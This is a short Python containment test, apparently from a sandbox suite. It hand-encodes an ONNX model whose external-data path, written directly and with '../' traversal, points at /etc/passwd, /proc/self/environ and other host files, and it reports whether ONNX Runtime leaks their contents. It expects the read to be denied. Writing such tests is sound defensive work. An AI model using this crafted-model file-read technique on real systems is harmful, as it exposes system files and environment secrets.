# family: files
# does: has ONNX Runtime read a model's weights from files of the host
# contained by: the mount namespace or the jail shows none; Landlock
# expect: denied

import os

import onnxruntime


def field(number, content):
    return bytes((number << 3 | 2, len(content))) + content


def net(path):
    where = field(1, b"location") + field(2, path.encode())
    tensor = b"\x08\x04\x10\x02" + field(8, b"w") + field(13, where) + b"\x70\x01"
    node = field(1, b"w") + field(2, b"y") + field(4, b"Identity")
    kind = field(1, b"\x08\x02" + field(2, field(1, b"\x08\x04")))
    graph = field(1, node) + field(2, b"g") + field(5, tensor) + field(12, field(1, b"y") + field(2, kind))
    return b"\x08\x08" + field(7, graph) + field(8, b"\x10\x11")


input()
found = []
here = os.getcwd()
for path in ("/etc/passwd", "/proc/self/environ", "/etc/hostname", "/usr/bin/env"):
    for location in (path, "../" * here.count("/") + path[1:]):
        try:
            session = onnxruntime.InferenceSession(net(location))
            found.append(f"{location}: {session.run(None, {})[0].tobytes()!r}")
        except Exception:
            pass
print("escaped: " + ", ".join(found) if found else "denied")
